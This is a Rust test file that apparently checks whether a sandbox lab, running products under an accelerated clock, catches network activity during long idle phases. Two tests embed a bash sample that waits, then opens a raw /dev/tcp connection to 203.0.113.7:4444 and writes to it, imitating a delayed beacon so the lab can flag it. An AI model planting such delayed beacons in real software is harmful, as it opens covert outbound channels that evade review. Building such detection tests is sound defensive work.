//! Idle phases on a hastened clock, on small products that lie still.
#![allow(
    clippy::disallowed_methods,
    clippy::print_stderr,
    reason = "a test builds products, starts the lab and reads what it left"
)]

#[path = "parts/lab.rs"]
mod lab;
#[path = "parts/ready.rs"]
mod ready;

use std::path::{Path, PathBuf};
use std::process::Command;

use watchglass_checks::results::{CheckResult, Results, State};
use watchglass_events::What;

/// What happens after some hours; the claims cover none of the network.
fn product(command: &str, lasts: &str) -> String {
    format!(
        r#"
schema = 1
[product]
name = "Idler"
vendor = "Watchglass"
jurisdiction = "CH"
[install]
host = true
[[install.file]]
from = "{{product}}/idler"
to = "/usr/local/bin/idler"
mode = 0o755
[[phase]]
name = "idle"
domain = "service"
run = {command}
ready = {{ seconds = 1 }}
for = "{lasts}"
timeout = "2m"
[domain.service]
programs = ["bash", "sleep", "idler"]
reads = ["{{loader}}", "/etc/**", "/dev/**", "/proc/**", "/usr/**"]
"#
    )
}

fn bash(script: &str) -> String {
    format!("[\"bash\", \"-c\", '{script}']")
}

/// Assays one run A1 and gives what came out, with the marks of the lab.
fn assay(folder: &Path, command: &str, lasts: &str, idle_seconds: u32) -> (Results, Vec<What>) {
    let file = folder.join("idler.toml");
    std::fs::write(&file, product(command, lasts)).expect("written");
    if !folder.join("idler").exists() {
        std::fs::write(folder.join("idler"), "#!/bin/sh\n").expect("written");
    }
    let bundle = folder.join("bundle");
    let output = lab::assay(&file, folder, &folder.join("cache"))
        .args(["--bait", "40", "--runs", "A1", "--idle-seconds", &idle_seconds.to_string()])
        .output()
        .expect("the lab runs");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(matches!(output.status.code(), Some(0 | 1 | 3)), "{:?}: {said}", output.status);
    let results = watchglass_recheck::recheck(&bundle, &[]).expect("the bundle holds").results;
    let log = std::fs::read(bundle.join("runs/A1/lab.log")).expect("the lab's log");
    let log = watchglass_events::log::parse(&log).expect("a log");
    (results, log.events.into_iter().map(|event| event.what).collect())
}

fn t1(results: &Results) -> &CheckResult {
    let check = results.checks.iter().find(|check| check.id == "T1").expect("T1");
    eprintln!("T1 {}: {} {:?}", check.state, check.reason, check.findings);
    check
}

fn library() -> PathBuf {
    let triplet = format!("{}-linux-gnu", std::env::consts::ARCH);
    Path::new("/usr/lib").join(triplet).join("faketime/libfaketime.so.1")
}

fn is_ready(test: &str) -> bool {
    ready::is_ready(test, &[("libfaketime", library().exists())])
}

#[test]
fn a_product_that_lies_still_for_hours_keeps_t1_in_seconds() {
    if !is_ready("a_product_that_lies_still_for_hours_keeps_t1_in_seconds") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let still = bash("while sleep 600; do :; done");
    let (results, marks) = assay(folder.path(), &still, "2h", 60);
    assert_eq!(t1(&results).state, State::Kept);
    for id in ["X1", "N3"] {
        let check = results.checks.iter().find(|check| check.id == id).expect("the check");
        assert_ne!(check.state, State::Broken, "{id}: {}", check.reason);
    }
    // The lab's own library is nothing that the product read or wrote.
    let all = results.checks.iter().flat_map(|check| &check.findings);
    assert!(!all.clone().any(|finding| finding.text.contains("/dev/shm/clock")), "{all:?}");
    assert!(!results.seen.residue.iter().any(|row| row.path.contains("/dev/shm/")));
    assert!(marks.iter().any(|mark| matches!(mark, What::IdleEnded { untouched: true, .. })));
}

#[test]
fn a_beacon_after_an_hour_breaks_t1_and_is_named() {
    if !is_ready("a_beacon_after_an_hour_breaks_t1_and_is_named") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let late = bash("sleep 5000; exec 3<>/dev/tcp/203.0.113.7/4444; echo ho >&3; sleep 99999");
    let (results, marks) = assay(folder.path(), &late, "4h", 15);
    let check = t1(&results);
    assert_eq!(check.state, State::Broken);
    let finding = check.findings.iter().find(|finding| finding.breaks).expect("what broke it");
    assert_eq!(finding.destination.as_deref(), Some("203.0.113.7:4444"));
    assert_eq!(finding.program.as_deref(), Some("/usr/bin/bash"));
    // The flow stays open, so the clock is the machine's from then on.
    let rates = marks.iter().filter_map(|mark| match mark {
        What::ClockSet { rate, .. } => Some(*rate),
        _ => None,
    });
    assert_eq!(rates.collect::<Vec<_>>(), [1000, 1]);
}

#[test]
fn what_waits_by_the_machines_clock_is_not_taken_for_idle() {
    if !is_ready("what_waits_by_the_machines_clock_is_not_taken_for_idle") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    // The second sleep begins while the flow is open; it lasts an hour of the machine's.
    let late = bash(
        "sleep 1000; exec 3<>/dev/tcp/203.0.113.7/4444; echo ho >&3; sleep 1; sleep 3600 & sleep 1; \
         exec 3>&-; while sleep 600; do :; done",
    );
    let (results, marks) = assay(folder.path(), &late, "1h", 20);
    let finding = t1(&results).findings.iter().find(|finding| {
        finding.program.as_deref() == Some("/usr/bin/sleep") && finding.text.contains("may lack")
    });
    assert!(finding.is_some());
    let back = marks.iter().filter(|mark| matches!(mark, What::ClockSet { rate: 1000, .. }));
    assert!(back.count() >= 2);
}

#[test]
fn a_static_program_makes_t1_inconclusive_and_is_named() {
    if !is_ready("a_static_program_makes_t1_inconclusive_and_is_named") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let source = folder.path().join("idler.c");
    std::fs::write(&source, "#include <unistd.h>\nint main(void) { for (;;) sleep(600); }\n")
        .expect("written");
    let built = Command::new("cc")
        .args(["-static", "-o"])
        .arg(folder.path().join("idler"))
        .arg(&source)
        .status();
    assert!(built.is_ok_and(|status| status.success()), "cc -static");
    let (results, marks) = assay(folder.path(), "[\"idler\"]", "1h", 20);
    let check = t1(&results);
    assert_eq!(check.state, State::Inconclusive);
    assert!(check.reason.contains("/usr/local/bin/idler"), "{}", check.reason);
    let named = |mark: &What| matches!(mark, What::NotHastened { program, .. } if program.to_string() == "/usr/local/bin/idler");
    assert!(marks.iter().any(named), "seen from outside too");
}
